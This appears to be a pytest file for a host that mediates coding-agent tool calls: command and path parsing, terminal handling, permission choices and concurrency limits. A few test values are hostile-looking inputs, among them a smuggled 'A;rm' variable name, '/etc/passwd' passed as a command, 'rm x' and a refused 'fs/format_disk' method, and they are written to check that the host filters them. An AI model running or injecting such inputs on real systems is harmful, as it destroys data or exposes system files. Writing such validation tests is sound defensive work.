def described(**description: Any) -> AcpCall:
    return AcpCall("c1", description)


@pytest.mark.parametrize(
    ("call_input", "command"),
    [
        ({"command": "make all"}, "make all"),
        ({"cmd": "make all"}, "make all"),
        ({"command": ["make", "a b"]}, "make 'a b'"),
        ({"command": "make", "args": ["all", "a b", 3]}, "make all 'a b' 3"),
        ({"command": "make", "cmd": "make"}, "make"),
        ({"command": "make", "cmd": "rm x"}, "make\nrm x"),
        ({"args": ["all"]}, ""),
        ({"command": []}, ""),
        ({"command": "", "cmd": None}, ""),
    ],
)
def test_a_command_is_read_as_agents_write_it(call_input: Any, command: str) -> None:
    assert agent_requests._command_of_call(described(rawInput=call_input)) == command


@pytest.mark.parametrize(
    ("call_input", "folder"),
    [
        ({"cwd": "/p"}, "/p"),
        ({"working_directory": "/p", "directory": "/q"}, "/p, /q"),
        ({"workdir": "/p", "dir_path": "/p"}, "/p"),
        ({"FOLDER": "/p"}, "/p"),
        ({"cwd": ""}, ""),
        ({"my cwd": "/p", "cwdx": "/p"}, ""),
    ],
)
def test_the_folder_of_a_command_is_read_as_agents_write_it(call_input: Any, folder: str) -> None:
    assert agent_requests._folder_of_call(described(rawInput=call_input)) == folder


@pytest.mark.parametrize(
    ("description", "path", "effect"),
    [
        ({"kind": "read"}, "a.txt", ActionEffect.READ),
        ({"kind": "read"}, "", ActionEffect.FOREIGN),
        ({"kind": "search", "rawInput": {"pattern": "x"}}, "", ActionEffect.READ),
        ({"kind": "search", "rawInput": {"glob": "*.py"}}, "", ActionEffect.READ),
        ({"kind": "edit"}, "a.txt", ActionEffect.EDIT),
        ({"kind": "delete"}, "", ActionEffect.FOREIGN),
        ({"kind": "execute"}, "", ActionEffect.FOREIGN),
        ({"kind": "execute", "rawInput": {"command": "ls"}}, "", ActionEffect.RUN),
        ({"kind": "read", "rawInput": {"command": "cat x"}}, "x", ActionEffect.RUN),
        ({"kind": "fetch"}, "", ActionEffect.FETCH),
        ({"kind": "other"}, "a.txt", ActionEffect.FOREIGN),
        ({}, "", ActionEffect.FOREIGN),
    ],
)
def test_what_a_call_does_is_known_by_what_it_names(
    description: Any, path: str, effect: ActionEffect
) -> None:
    assert agent_requests._effect_of_call(described(**description), path) is effect


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://example.org/x", "example.org"),
        ("no address", ""),
        ("http://[broken", ""),
        ("", ""),
    ],
)
def test_a_page_is_known_by_its_host(address: str, host: str) -> None:
    assert agent_requests._host_of_call(described(rawInput={"url": address})) == host


@pytest.mark.parametrize(
    ("params", "line"),
    [
        ({"command": "ls -la | wc"}, "ls -la | wc"),
        ({"command": "my prog", "args": ["a b", 3]}, "'my prog' 'a b' 3"),
        (
            {"command": "ls", "env": [{"name": "A", "value": "x y"}, {"name": "B_2", "value": ""}]},
            "A='x y' B_2='' ls",
        ),
        ({"command": "ls", "env": [{"name": "A;rm", "value": "x"}, {"name": "2", "value": ""}]}, "ls"),
    ],
)  # fmt: skip
def test_the_command_line_of_a_terminal_has_its_variables_and_only_those_that_are_names(
    params: Any, line: str
) -> None:
    assert agent_requests._format_terminal_command(params) == line


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("file:///a/b%20c", "/a/b c"),
        (" FILE://localhost/a ", "/a"),
        ("file://other/a", "//other/a"),
        ("file:/a", "/a"),
        ("file://[broken/a", "//file://[broken/a"),
        ("a/file:/b", "a/file:/b"),
    ],
)
def test_the_address_of_a_file_is_a_path_and_on_another_computer_one_outside(
    text: str, path: str
) -> None:
    assert agent_requests._path_of_file_address(text) == path


def test_the_paths_of_a_call_are_named_once_and_those_of_its_input_first() -> None:
    call = described(
        rawInput={"file_path": "b.txt", "note": "no path", "command": "/etc/passwd"},
        locations=[{"path": "a.txt"}, {"path": "file:///c.txt"}, {}],
        content=[{"type": "diff", "path": "a.txt"}, {"type": "diff", "path": "d.txt"}],
    )
    assert agent_requests._list_paths_of_call(call) == ["b.txt", "a.txt", "/c.txt", "d.txt"]


# --- How a command in a terminal ended


async def terminal_of(outcome: CallOutcome | Exception) -> agent_requests.AgentTerminal:
    async def run() -> CallOutcome:
        if isinstance(outcome, Exception):
            raise outcome
        return outcome

    running = asyncio.ensure_future(run())  # noqa: TID251 - as the workspace spawns it
    await asyncio.wait([running])
    return agent_requests.AgentTerminal(running, limit_bytes=10)


OUTPUT = Stored(Digest(bytes(32)), 3)
KILLED = {"exitCode": None, "signal": "SIGKILL"}


@pytest.mark.parametrize(
    ("outcome", "status"),
    [
        (CallOutcome(OUTPUT, exit_code=0), {"exitCode": 0, "signal": None}),
        (CallOutcome(OUTPUT, ok=False, exit_code=7), {"exitCode": 7, "signal": None}),
        (CallOutcome(OUTPUT, ok=False), {"exitCode": 1, "signal": None}),
        (CallOutcome(OUTPUT), {"exitCode": 0, "signal": None}),
        (CallOutcome(OUTPUT, exit_code=0, stopped=True), KILLED),
        (OSError("no such program"), KILLED),
    ],
)
async def test_an_agent_hears_how_its_command_ended(
    outcome: CallOutcome | Exception, status: dict[str, Any]
) -> None:
    assert (await terminal_of(outcome)).exit_status() == status


async def test_a_command_that_was_cancelled_was_killed() -> None:
    running = asyncio.ensure_future(asyncio.Event().wait())  # noqa: TID251 - as it is spawned
    running.cancel()
    await asyncio.wait([running])
    terminal = agent_requests.AgentTerminal(cast(Any, running), limit_bytes=10)
    assert terminal.exit_status() == KILLED


async def test_of_what_a_command_prints_the_end_is_kept_and_it_is_said_that_it_was_cut() -> None:
    terminal = await terminal_of(CallOutcome(OUTPUT))
    terminal.add_printed_text("0123456789")
    assert (terminal.printed, terminal.is_cut) == ("0123456789", False)
    terminal.add_printed_text("x")
    assert (terminal.printed, terminal.is_cut) == ("123456789x", True)


# --- Requests, answered without an agent's process


@pytest.fixture
async def turn(bench: Workbench) -> agent_requests.AgentRequests:
    """The requests of one turn. Every question is allowed."""
    session = await bench.start_conversation(acp_agent="Script")
    recorder = turn_recording.TurnRecorder(session.conversation, bench.kit.resources, "Agent")

    async def allow(question: PermissionQuestion) -> PermissionAnswer:
        ASKED.append(question)
        return YES

    ASKED.clear()
    return agent_requests.AgentRequests(
        session.conversation,
        bench.kit,
        bench.kit.build_toolbox(),
        recorder,
        allow,
        bench.tasks.spawn_task,
    )


@pytest.mark.parametrize(
    ("params", "text"),
    [
        ({}, "1\n2\n3\n4\n"),
        ({"line": 1}, "1\n2\n3\n4\n"),
        ({"line": 3}, "3\n4\n"),
        ({"limit": 2}, "1\n2\n"),
        ({"line": 2, "limit": 2}, "2\n3\n"),
        ({"line": 0, "limit": 0}, "1\n2\n3\n4\n"),
        ({"line": 9}, ""),
    ],
)
async def test_an_agent_reads_the_lines_that_it_asks_for(
    turn: agent_requests.AgentRequests, folder: Path, params: dict[str, int], text: str
) -> None:
    (folder / "four.txt").write_text("1\n2\n3\n4\n")
    asked = {"path": str(folder / "four.txt"), **params}
    assert await turn.answer_agent("fs/read_text_file", asked) == {"content": text}


async def test_a_method_that_nobody_knows_and_a_terminal_that_is_not_there_are_refused(
    turn: agent_requests.AgentRequests,
) -> None:
    with pytest.raises(RequestError) as unknown:
        await turn.answer_agent("fs/format_disk", {})
    assert unknown.value.code == -32601
    with pytest.raises(RequestError, match="There is no terminal xxx") as missing:
        await turn.answer_agent("terminal/output", {"terminalId": "x" * 200})
    assert missing.value.code == -32002
    assert "x" * 81 not in str(missing.value)


def permission(*kinds: str) -> dict[str, Any]:
    options = [{"optionId": f"my {kind}", "kind": kind, "name": kind} for kind in kinds]
    call = {"toolCallId": "c1", "title": "look", "kind": "read", "rawInput": {"path": "README.md"}}
    return {"toolCall": call, "options": options}


@pytest.mark.parametrize(
    ("kinds", "chosen"),
    [
        (("allow_always", "allow_once", "reject_once"), "my allow_once"),
        (("allow_always", "reject_once"), "my allow_always"),
        (("reject_once", "reject_always"), None),
        ((), None),
    ],
)
async def test_of_the_agents_options_the_one_for_this_call_alone_is_taken(
    turn: agent_requests.AgentRequests, kinds: tuple[str, ...], chosen: str | None
) -> None:
    answer = await turn.answer_agent("session/request_permission", permission(*kinds))
    outcome = answer["outcome"]
    assert outcome.get("optionId") == chosen
    assert outcome["outcome"] == ("selected" if chosen else "cancelled")


async def test_a_call_with_too_many_files_is_rejected_and_not_for_good(
    turn: agent_requests.AgentRequests, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(agent_requests, "MOST_PATHS", 2)
    asked = permission("reject_always", "reject_once", "allow_once")
    asked["toolCall"]["locations"] = [{"path": "a"}]
    answer = await turn.answer_agent("session/request_permission", asked)
    assert answer["outcome"]["optionId"] == "my allow_once"
    asked["toolCall"] |= {"toolCallId": "c2", "locations": [{"path": "a"}, {"path": "b"}]}
    answer = await turn.answer_agent("session/request_permission", asked)
    assert answer["outcome"]["optionId"] == "my reject_once"


async def test_a_turn_waits_while_somebody_is_asked_and_while_a_command_runs(
    bench: Workbench, turn: agent_requests.AgentRequests
) -> None:
    waiting: list[bool] = []

    async def look(_: PermissionQuestion) -> PermissionAnswer:
        waiting.append(turn.is_waiting)
        return YES

    turn.ask_user = look
    assert not turn.is_waiting
    form = {"requestedSchema": {"type": "object", "properties": {}}, "message": "Who?"}
    for _ in range(2):
        await turn.answer_agent("elicitation/create", form)
        assert not turn.is_waiting
    assert waiting == [True, True]
    await bench.choose_permission_mode("allow all")
    created = await turn.answer_agent("terminal/create", {"command": "sleep 600"})
    assert turn.is_waiting
    await turn.answer_agent("terminal/kill", created)
    assert not turn.is_waiting


async def test_no_more_commands_run_at_once_than_an_agent_may_run(
    bench: Workbench, turn: agent_requests.AgentRequests, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(agent_requests, "MOST_TERMINALS", 1)
    await bench.choose_permission_mode("allow all")
    created = await turn.answer_agent("terminal/create", {"command": "sleep 600"})
    with pytest.raises(ActionRefused, match="already running 1 commands"):
        await turn.answer_agent("terminal/create", {"command": "true"})
    await turn.answer_agent("terminal/release", created)
    assert turn.terminals == {}
    await turn.answer_agent("terminal/create", {"command": "true"})
    await turn.stop_questions_and_commands()


async def test_a_form_without_fields_or_of_too_many_words_is_declined(
    turn: agent_requests.AgentRequests, monkeypatch: pytest.MonkeyPatch
) -> None:
    schema = {"type": "object", "properties": {}}
    asked = {"message": "Who?", "requestedSchema": schema}
    declined = {"action": "decline"}
    assert await turn.answer_agent("elicitation/create", {"message": "Who?"}) == declined
    monkeypatch.setattr(agent_requests, "LONGEST_FORM_MESSAGE", 4)
    monkeypatch.setattr(agent_requests, "LONGEST_FORM", len(json.dumps(schema)))
    accepted = {"action": "accept", "content": {}}
    assert await turn.answer_agent("elicitation/create", asked) == accepted
    longer = asked | {"message": "Who??"}
    assert await turn.answer_agent("elicitation/create", longer) == declined
    larger = asked | {"requestedSchema": {**schema, "x": 1}}
    assert await turn.answer_agent("elicitation/create", larger) == declined
    assert len(ASKED) == 1


async def test_what_was_allowed_to_be_written_is_exactly_that_change(
    turn: agent_requests.AgentRequests,
) -> None:
    turn._allowed_edits.append(agent_requests.AllowedEdit("a.txt", "old", "new"))
    turn._allowed_edits.append(agent_requests.AllowedEdit("b.txt", "", "whole"))

    def was_allowed(path: str, before: bytes | None, content: str) -> bool:
        return turn._was_edit_allowed(path, before, {"path": path, "content": content})

    assert was_allowed("a.txt", b"old old", "new old")
    assert not was_allowed("a.txt", b"old old", "new new")
    assert not was_allowed("c.txt", b"old old", "new old")
    assert not was_allowed("a.txt", None, "new")
    assert was_allowed("b.txt", None, "whole")
    assert not was_allowed("b.txt", b"there", "whole")
    assert not was_allowed("b.txt", b"there", "wholethere")
